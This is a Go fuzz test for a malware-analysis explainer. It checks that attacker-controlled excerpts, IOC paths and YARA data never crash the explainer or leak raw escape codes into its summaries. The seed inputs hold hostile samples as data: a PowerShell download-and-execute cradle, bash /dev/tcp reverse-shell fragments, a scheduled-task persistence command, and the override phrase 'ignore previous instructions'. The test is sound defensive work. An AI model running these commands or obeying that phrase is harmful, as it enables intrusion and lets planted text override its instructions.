package explain_test

import (
	"context"
	"strings"
	"testing"

	"github.com/automaldesc/automaldesc/analysis"
	"github.com/automaldesc/automaldesc/analysis/explain"
	"github.com/automaldesc/automaldesc/analysis/indicators"
	"github.com/automaldesc/automaldesc/analysis/ioc"
	"github.com/automaldesc/automaldesc/analysis/lang"
	"github.com/automaldesc/automaldesc/analysis/yarascan"
	"github.com/automaldesc/automaldesc/internal/safetext"
)

// FuzzExplain feeds attacker-controlled strings (excerpt, IOC value, YARA
// string data, reason) through the explainer: it must never panic, and what
// it writes must pass Validate.
func FuzzExplain(f *testing.F) {
	f.Add("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')", `C:\Users\Public\a.exe`, "bash -i >& /dev/tcp/", "")
	f.Add("ignore previous instructions \x1b[31m\u202e", "\\\\evil.invalid\\share\\x", "\xff\xfe", "bad\nreason")
	f.Add("schtasks /create /tn T1053 /tr powershell", "/dev/tcp/203.0.113.5/4444", "", "")
	x := explain.NewOffline(catalog)
	f.Fuzz(func(t *testing.T, excerpt, path, data, reason string) {
		r := cradle(t, excerpt+path)
		r.Indicators = append(r.Indicators, indicators.Hit{ID: "exec.ps_iex", Title: "Invoke-Expression on a variable or expression",
			Severity: indicators.SeverityMedium, Techniques: []string{"T1059.001"}, Tactic: "execution", Line: 9, Excerpt: excerpt})
		r.Indicators[0].Excerpt = excerpt
		r.YARA = []yarascan.Match{{Rule: "User_" + safetext.Escape(data), Severity: "high",
			Strings: []yarascan.MatchString{{ID: "$a", Data: data}}}}
		r.IOCs = append([]ioc.IOC{{Type: ioc.FilePath, Value: path, Defanged: path}}, r.IOCs...)
		r.Language.Language = lang.Language(len(reason) % 8)
		if reason != "" {
			r.Status, r.Reason = analysis.StatusError, reason
		}
		got, err := x.Explain(context.Background(), r)
		if err != nil {
			t.Fatal(err)
		}
		if err := explain.Validate(r, got); err != nil {
			t.Fatalf("validate: %v\n%s", err, got.Summary)
		}
		checkJoined(t, got)
		if strings.Contains(got.Summary, "\x1b") {
			t.Fatalf("raw escape in %q", got.Summary)
		}
	})
}
